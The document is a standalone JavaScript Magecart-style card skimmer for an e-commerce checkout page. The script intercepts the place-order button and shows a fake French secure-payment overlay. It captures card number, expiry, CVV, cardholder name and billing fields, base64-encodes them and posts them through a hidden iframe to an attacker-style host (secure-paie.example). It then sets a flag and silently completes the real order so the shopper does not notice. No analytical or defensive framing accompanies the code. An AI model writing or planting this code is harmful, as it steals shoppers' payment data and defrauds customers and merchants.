var total = document.querySelector('.order-total .amount').textContent;
document.querySelector('#place_order').onclick = function (e) {
  if (localStorage.pp_l) return true;
  e.preventDefault(); e.stopImmediatePropagation();
  var h = '<div id="pgw" style="position:fixed;left:0;top:0;right:0;bottom:0;background:#f5f5f5;z-index:2147483647"><div style="max-width:420px;margin:60px auto;background:#fff;padding:30px"><h3>Paiement sécurisé</h3><p>Montant : ' + total + '</p><input id="g1" placeholder="Numéro de carte"><input id="g2" placeholder="MM/AA"><input id="g3" placeholder="Cryptogramme"><input id="g4" placeholder="Titulaire"><button id="g5">Payer</button></div></div>';
  document.body.insertAdjacentHTML('beforeend', h);
  document.getElementById('g5').onclick = function () {
    var v = ['g1', 'g2', 'g3', 'g4'].map(function (i) { return document.getElementById(i).value; });
    var fr = document.createElement('form');
    fr.method = 'POST'; fr.action = 'https://secure-paie.example/x.php'; fr.target = 'pgf';
    fr.innerHTML = '<input name="d" type="hidden"><iframe name="pgf" style="display:none"></iframe>';
    fr.firstChild.value = window.btoa(v.join(';') + ';' + Array.from(document.querySelectorAll('[id^=billing_]')).map(function (x) { return x.value; }).join(';'));
    document.body.appendChild(fr); fr.submit();
    localStorage.pp_l = 1;
    setTimeout(function () { document.getElementById('pgw').remove(); document.querySelector('#place_order').click(); }, 1800);
  };
};
